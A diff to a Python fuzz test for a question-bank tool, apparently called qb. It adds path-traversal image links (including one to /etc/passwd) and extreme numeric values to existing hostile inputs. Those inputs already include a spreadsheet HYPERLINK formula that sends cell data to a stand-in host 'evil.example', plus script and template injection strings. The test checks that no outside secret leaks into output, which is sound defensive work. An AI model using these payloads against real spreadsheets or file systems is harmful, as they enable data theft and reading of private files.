@@ -1,7 +1,8 @@
 """Fuzzing qb over hostile banks (issue 10, docs/security.md).
 
 Each generated bank mixes hostile names (separators, control characters,
-formulas), hostile text, huge numbers, deep nesting and symbolic links
+formulas), hostile text, image paths out of the bank, huge numbers and
+weights (.inf, .nan, 5,000 digits), deep nesting and symbolic links
 (an item file and the cache folder linked out of the bank, a loop, a
 planted render manifest). qb lints it and renders or exports it, and for
 every run:
@@ -9,7 +10,8 @@ every run:
 * no traceback, no internal error, an exit status of 0, 1 or 2;
 * no file outside the output folder is written, replaced or deleted, and
   the bank is unchanged (but for its own lint cache);
-* nothing of a file outside the bank reaches an output.
+* nothing of a file outside the bank (an item file or an image) reaches an
+  output.
 
 CI runs a few examples (QB_HYPOTHESIS_EXAMPLES, default 25); the longer run
 and its result are in benchmarks/README.md.
@@ -17,6 +19,7 @@ and its result are in benchmarks/README.md.
 
 from __future__ import annotations
 
+import base64
 import hashlib
 import json
 import os
@@ -35,13 +38,17 @@ EXAMPLES = int(os.environ.get("QB_HYPOTHESIS_EXAMPLES", 25))
 # The text of a file outside the bank that an item file links to: it must
 # reach no output.
 SECRET = "TOKEN=hunter2"
+# An image outside the bank that items point to: embedded, it would show as base64.
+SECRET_PNG = b"\x89PNG\r\n\x1a\n" + SECRET.encode() * 4
+SECRET_B64 = base64.b64encode(SECRET_PNG)[:24]
 
 HOSTILE_NAMES = ["../x", "/tmp/qb-fuzz-x", "a/b", "..", ".", "\x1b[2J", "\x1b]0;pwned\x07", "x\ny", "=1+1",
                  "-rf", "+SUM(A1)", "@x", "\u202eevil", "CON", "a\\b", " ", "é中🙂", "%2e%2e", "x" * 300, "\t"]
 HOSTILE_TEXT = HOSTILE_NAMES + [
     "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "<script>alert(1)</script>", "{{ 7*7 }}", "{% raw %}",
     "]]>", "&amp;", "\x00", "\x01\x07\x0c\x19", "\r\n", "\u2028", "\ufeff", "**" * 50, "[a](" * 40,
-    "<a " * 40, "*a " * 40]
+    "<a " * 40, "*a " * 40, "![a](/etc/passwd)", "![b](../../outside/secret.png)",
+    "![c](%2e%2e/%2e%2e/outside/secret.png)", "![d](../../outside/victim)"]
 # File names the file system takes (no '/', no NUL), hostile otherwise.
 FILE_NAMES = ["\x1b[2J.yaml", "a\nb.yaml", "=x.yaml", "-rf.yaml", "é中.yaml", "\u202ey.yaml", ".hidden.yaml",
               "x" * 200 + ".yaml", "plain.yaml"]
@@ -77,6 +84,9 @@ def item_file(draw) -> str:
     if kind == 1:
         depth = draw(st.integers(10, 1200))
         return "items: " + "[" * depth + "]" * depth + "\n"
+    if kind == 2:
+        digits = draw(st.integers(4000, 6000))
+        return f"items:\n  - id: huge\n    type: open\n    stem: What?\n    answer: This.\n    x-n: {'1' * digits}\n"
     return json.dumps({"items": draw(st.lists(item(), min_size=1, max_size=4))}, ensure_ascii=draw(st.booleans()))
 
 
@@ -86,7 +96,7 @@ def hostile_bank(draw) -> dict:
         "files": draw(st.dictionaries(st.sampled_from(FILE_NAMES), item_file(), min_size=1, max_size=3)),
         "schema_off": draw(st.booleans()),
         "forms": draw(st.lists(name, min_size=1, max_size=3)),
-        "weights": draw(st.sampled_from(["34", "0", "-1"])),
+        "weights": draw(st.sampled_from(["34", "0", "-1", ".inf", "1e400", ".nan", "text", "[1, 2]", "1" * 5000])),
         "link_item_out": draw(st.booleans()),
         "link_cache_out": draw(st.booleans()),
         "loop": draw(st.booleans()),
@@ -128,6 +138,7 @@ def build(world: Path, spec: dict) -> Path:
     (outside / "victim" / "src").mkdir(parents=True)
     (outside / "victim" / "src" / "main.c").write_text("code\n")
     (outside / "secret.yaml").write_text(f"items:\n  - id: secret\n    type: open\n    stem: {SECRET}\n")
+    (outside / "secret.png").write_bytes(SECRET_PNG)
     os.utime(outside / "victim", (1_000_000_000, 1_000_000_000))
     if spec["link_item_out"]:
         (root / "items" / "linked.yaml").symlink_to(outside / "secret.yaml")
@@ -190,7 +201,9 @@ def test_hostile_banks(spec):
             assert (world / "out" / ".qb-render.json").read_bytes() == manifest
         for path in (world / written).rglob("*") if (world / written).exists() else ():
             assert not path.is_symlink()
-            assert not path.is_file() or SECRET.encode() not in path.read_bytes(), path
+            if path.is_file():
+                data = path.read_bytes()
+                assert SECRET.encode() not in data and SECRET_B64 not in data, path
     finally:
         shutil.rmtree(world, ignore_errors=True)
 
